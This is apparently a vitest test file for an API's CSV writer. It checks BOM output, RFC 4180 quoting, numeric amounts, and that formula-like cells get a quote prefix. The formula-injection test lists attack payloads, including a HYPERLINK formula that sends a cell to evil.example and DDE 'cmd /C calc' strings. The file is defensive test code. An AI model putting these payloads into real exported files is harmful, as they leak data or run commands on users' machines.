// The API's one CSV writer (api/csv.ts): a byte-order mark, cells quoted as RFC 4180 asks, and no cell a
// spreadsheet would run as a formula, while amounts (negative ones too) stay numbers.
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvText } from '../../api/csv.ts';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));

const cells = (text: string) => parse(text.replace(/^\ufeff/, '')) as string[][];

describe('csvText', () => {
  it('starts with a byte-order mark and quotes what would split a cell or a record', () => {
    const text = csvText([
      ['Manzil', 'Summa'],
      ['Toshkent, 1', '12.30'],
    ]);
    expect(text.startsWith('\ufeffManzil,Summa\n')).toBe(true);
    expect(cells(text)).toEqual([
      ['Manzil', 'Summa'],
      ['Toshkent, 1', '12.30'],
    ]);
  });

  it('prefixes a quote to every cell a spreadsheet would run as a formula', () => {
    const attacks = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '-1+1',
    ];
    const [row] = cells(csvText([attacks]));
    expect(row).toEqual(attacks.map((a) => `'${a}`));
  });

  it('leaves numbers and plain decimal amounts as they are, negative ones too', () => {
    const [row] = cells(csvText([['-12.30', '0.00', '5000.00', -4, 7.5, 'Kimdir - nimadir']]));
    expect(row).toEqual(['-12.30', '0.00', '5000.00', '-4', '7.5', 'Kimdir - nimadir']);
  });
});

describe('the one CSV writer', () => {
  it('is the only code that writes CSV for a person: no second writer in the API, domain or widgets', () => {
    const sources = ['api', 'domain', 'db', 'widgets'].flatMap((dir) =>
      readdirSync(path.join(ROOT, dir), { recursive: true, encoding: 'utf8' })
        .filter((f) => f.endsWith('.ts') && !f.endsWith('.test.ts'))
        .map((f) => path.join(dir, f)),
    );
    const writers = sources.filter((f) => {
      const text = readFileSync(path.join(ROOT, f), 'utf8');
      return /from 'csv-stringify|'Content-Type': 'text\/csv|saveFile\(\s*`\\ufeff/.test(text);
    });
    expect(writers).toEqual([path.join('api', 'csv.ts')]);
  });
});
